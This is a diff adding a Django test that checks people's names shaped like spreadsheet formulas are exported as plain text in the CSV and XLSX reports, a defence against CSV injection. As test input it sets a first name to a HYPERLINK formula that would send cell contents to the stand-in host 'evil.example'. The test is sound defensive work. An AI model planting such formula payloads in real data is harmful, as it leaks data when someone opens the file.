@@ -544,3 +544,32 @@ def test_a_direct_report_moved_away_during_the_build_is_not_downloadable_after(
         assert b"E-report-0" in handle.read()
     download = client.get(reverse("reports:report_export_download", args=[export.pk]))
     assert download.status_code == 404
+
+
+def test_names_that_look_like_formulas_are_text_in_both_exports(
+    client, catalogue, settings
+):
+    """OWASP's CSV injection: a name beginning with = + - @ must not become a
+    live formula when HR opens the export (an apostrophe in the CSV, a text
+    cell in the XLSX)."""
+    org = make_report_org(catalogue)
+    (person,) = add_people(org, org["a1"], 1, "p")
+    person.first_name = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'
+    person.last_name = "@SUM(1+1)"
+    person.save()
+    client.force_login(org["head_a"])
+    url = reverse("reports:report_people", args=[org["a"].pk])
+    csv_text = b"".join(client.get(url, {"format": "csv"}).streaming_content).decode(
+        "utf-8-sig"
+    )
+    cells = list(csv.reader(io.StringIO(csv_text), delimiter=";"))[1]
+    assert "'@SUM(1+1)" in cells
+    assert '\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")' in cells
+    book = load_workbook(
+        io.BytesIO(b"".join(client.get(url, {"format": "xlsx"}))), read_only=False
+    )
+    sheet = book.active
+    texts = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+    assert texts["@SUM(1+1)"] == "s"
+    assert texts[person.first_name] == "s"  # stored as text, never a formula
+    assert not any(kind == "f" for kind in texts.values())
